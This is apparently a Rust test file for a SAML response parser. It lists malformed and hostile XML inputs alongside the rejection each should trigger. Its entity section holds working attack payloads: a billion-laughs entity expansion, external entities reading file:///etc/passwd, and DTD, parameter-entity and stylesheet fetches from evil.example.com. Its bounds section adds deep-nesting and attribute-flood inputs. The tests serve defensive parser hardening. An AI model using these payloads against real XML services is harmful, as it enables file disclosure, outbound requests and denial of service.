//! Tricks of XML: broken documents, document types, entities, instructions, and bounds.

use maestrano::Rejection;

use super::Row;
use crate::kit::Draft;

const OPEN: &str = "<samlp:Response";

pub(super) fn rows() -> Vec<Row> {
    [malformed(), markup(), bounds()].into_iter().flatten().collect()
}

fn malformed() -> Vec<Row> {
    let xml = Draft::new().xml();
    let around = |name: &str, before: &str, after: &str, fault: usize| {
        malformed_at(name, format!("{before}{xml}{after}"), fault)
    };
    let end = xml.len();
    let cut = malformed_at("the last character is missing", xml[..end - 1].to_owned(), end - 17);
    let mut rows = vec![
        cut,
        around("there are two roots", "", &xml, end),
        around("there is a second, empty root", "", "<a/>", end),
        around("text follows the root", "", "text", end),
        around("a zero byte follows the root", "", "\0", end),
        around("text comes before the root", "text", "", 0),
        around("XML is of version 1.1", "<?xml version=\"1.1\"?>", "", 0),
        malformed_at("the declaration has no end", "<?xml version=\"1.0\"".to_owned(), 0),
        malformed_at("the document is one word", "x".to_owned(), 0),
        malformed_at("the document is an end tag", "</a>".to_owned(), 0),
        malformed_at("the document is a cut tag", "<a".to_owned(), 0),
    ];
    // The number tells how far into the new text the fault is found.
    for (name, from, to, fault) in [
        ("a control character stands in a value", "Zoë", "Zo\u{1}", 2),
        ("a reference to a control character stands in a value", "Zoë", "Zo&#1;", 2),
        ("a reference to no character stands in a value", "Zoë", "Zo&#xD800;", 2),
        ("a reference beyond all characters stands in a value", "Zoë", "Zo&#x110000;", 2),
        ("an ampersand is not escaped", "Acme &amp; Sons", "Acme & Sons", 5),
        ("a bracket is not escaped", "Acme &amp; Sons", "Acme < Sons", 6),
        ("a bracket stands in an attribute", " Method=\"", " Method=\"<", 9),
        ("the end of a section stands in a text", "Zoë", "]]>", 0),
        ("a comment has two hyphens", "Zoë", "<!-- -- -->", 0),
        ("a comment has no end", "Zoë", "<!-- ", 0),
        ("a prefix is not declared", "<Subject>", "<x:Subject>", 1),
        ("an attribute comes twice", "<Subject>", "<Subject a=\"1\" a=\"2\">", 15),
        (
            "an attribute comes twice by two prefixes",
            "<Subject>",
            "<Subject xmlns:x=\"urn:x\" xmlns:y=\"urn:x\" x:a=\"\" y:a=\"\">",
            48,
        ),
        ("a second ID stands in the assertion", " ID=\"_a1\"", " ID=\"_a2\" ID=\"_a1\"", 10),
        ("an attribute has no quotes", "<Subject>", "<Subject a=b>", 11),
        ("elements overlap", ">usr-1</NameID>", "><b>usr-1</NameID></b>", 9),
        ("an element begins with a colon", "<Subject>", "<:Subject>", 1),
        ("an end begins with a colon", "</Subject>", "</:Subject>", 0),
        ("a prefix is taken back", "<samlp:Status>", "<samlp:Status xmlns:ds=\"\">", 14),
        (
            "a default namespace comes twice",
            "<samlp:Status>",
            "<samlp:Status xmlns=\"urn:a\" xmlns=\"urn:b\">",
            28,
        ),
        ("xmlns has a prefix", "<samlp:Status>", "<samlp:Status samlp:xmlns=\"urn:a\">", 14),
        ("the prefix xml is another namespace's", "<samlp:Status>", "<samlp:Status xmlns:xml=\"urn:a\">", 14),
        ("the prefix xmlns is declared", "<samlp:Status>", "<samlp:Status xmlns:xmlns=\"urn:a\">", 14),
    ] {
        let xml = Draft::new().after(from, to).xml();
        let at = xml.find(to).unwrap();
        rows.push(malformed_at(name, xml, at + fault));
    }
    rows
}

/// A document whose fault is found at that byte.
fn malformed_at(name: &str, xml: String, fault: usize) -> Row {
    let before = &xml[..fault];
    let number = |count: usize| u32::try_from(count + 1).unwrap();
    let line = number(before.matches('\n').count());
    let column = number(before.chars().rev().take_while(|character| *character != '\n').count());
    Row::new(name, xml, Rejection::NotWellFormed { line, column })
}

fn markup() -> Vec<Row> {
    let xml = Draft::new().xml();
    let before = |text: &str| format!("{text}{xml}");
    let laughs = concat!(
        "<!DOCTYPE a [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">",
        "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>",
    );
    let mut rows: Vec<Row> = [
        ("there is a document type", before("<!DOCTYPE a>")),
        (
            "a document type declares an entity",
            before("<!DOCTYPE a [<!ENTITY x \"usr-666\">]>").replacen(">usr-1<", ">&x;<", 1),
        ),
        ("a document type declares entities that grow", before(laughs).replacen("Zoë", "&c;", 1)),
        ("a document type is that of a file", before("<!DOCTYPE a SYSTEM \"file:///etc/passwd\">")),
        (
            "a document type is fetched",
            before("<!DOCTYPE a PUBLIC \"x\" \"https://evil.example.com/x.dtd\">"),
        ),
        (
            "a document type declares an entity of a file",
            before("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
        ),
        (
            "a document type declares a parameter entity",
            before("<!DOCTYPE a [<!ENTITY % x SYSTEM \"https://evil.example.com/\"> %x;]>"),
        ),
        (
            "a document type gives attributes to elements",
            before("<!DOCTYPE a [<!ATTLIST Assertion ID CDATA \"_a1\">]>"),
        ),
        (
            "a document type says which attributes are identifiers",
            before("<!DOCTYPE a [<!ATTLIST NameID Format ID #IMPLIED>]>"),
        ),
        ("a document type follows the declaration", before("<?xml version=\"1.0\"?><!DOCTYPE a>")),
        ("a document type follows a comment", before("<!-- --><!DOCTYPE a>")),
        (
            "a document type stands inside the response",
            Draft::new().after("<samlp:Status>", "<!DOCTYPE a><samlp:Status>").xml(),
        ),
    ]
    .into_iter()
    .map(|(name, xml)| Row::new(name, xml, Rejection::Doctype))
    .collect();
    rows.extend([
        Row::new("a value holds an entity of HTML", Draft::new().after("Zoë", "Zo&euml;"), Rejection::Entity),
        Row::new(
            "an attribute holds an entity",
            Draft::new().after(" Method=\"", " Method=\"&x;"),
            Rejection::Entity,
        ),
    ]);
    for (name, from, to) in [
        ("before the root", OPEN, "<?php x?><samlp:Response"),
        ("inside the assertion", "<Subject>", "<?php x?><Subject>"),
        ("inside a value", "Zoë", "Zo<?php x?>"),
        ("inside SignedInfo", "<ds:Reference", "<?x?><ds:Reference"),
        ("after the root", "</samlp:Response>", "</samlp:Response><?x?>"),
        ("as a style sheet", OPEN, "<?xml-stylesheet href=\"https://evil.example.com/\"?><samlp:Response"),
        ("as a declaration behind white space", OPEN, " <?xml version=\"1.0\"?><samlp:Response"),
        ("as a second declaration", "<Subject>", "<?xml version=\"1.0\"?><Subject>"),
    ] {
        rows.push(Row::new(
            format!("a processing instruction comes {name}"),
            Draft::new().after(from, to),
            Rejection::ProcessingInstruction,
        ));
    }
    rows
}

fn bounds() -> Vec<Row> {
    let count = |count, each: fn(usize) -> String| (0..count).map(each).collect::<String>();
    let nested = |depth| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    let children = |count| format!("<a>{}</a>", "<b/>".repeat(count));
    let complex =
        |name: &str, xml: String, what, limit| Row::new(name, xml, Rejection::TooComplex { what, limit });
    let attributes = |name: &str, xml| complex(name, xml, "attributes on an element", 256);
    let inside = |from: &str, to: String| Draft::new().after(from, &to).xml();
    vec![
        complex("elements are nested 65 deep", nested(65), "levels", 64),
        complex("elements are nested 20,000 deep", nested(20_000), "levels", 64),
        complex("elements are nested deep in a value", inside("Zoë", nested(64)), "levels", 64),
        complex("the document has 10,001 nodes", children(10_000), "nodes", 10_000),
        complex(
            "the document has 10,001 comments",
            inside("<Subject>", format!("{}<Subject>", "<!---->".repeat(10_001))),
            "nodes",
            10_000,
        ),
        complex(
            "the document has 10,001 sections",
            inside("Zoë", "<![CDATA[x]]>".repeat(10_001)),
            "nodes",
            10_000,
        ),
        attributes(
            "an element has 257 attributes",
            format!("<a{}/>", count(257, |at| format!(" a{at}=\"\""))),
        ),
        attributes(
            "an element has 50,000 attributes",
            inside("<NameID", format!("<NameID{}", count(50_000, |_| " a=\"\"".to_owned()))),
        ),
        attributes(
            "an element has 257 declarations",
            format!("<a{}/>", count(257, |at| format!(" xmlns:a{at}=\"u\""))),
        ),
        complex(
            "257 declarations are in scope",
            format!("<a{}><b xmlns:b=\"u\"/></a>", count(256, |at| format!(" xmlns:a{at}=\"u\""))),
            "namespaces in scope",
            256,
        ),
        complex(
            "the document has 1,025 declarations",
            format!("<a>{}</a>", "<b xmlns:c=\"u\"/>".repeat(1_025)),
            "namespace declarations",
            1_024,
        ),
        Row::new("the bounds are reached by another document", nested(64), Rejection::NotAResponse),
        Row::new("the nodes are reached by another document", children(9_999), Rejection::NotAResponse),
    ]
}
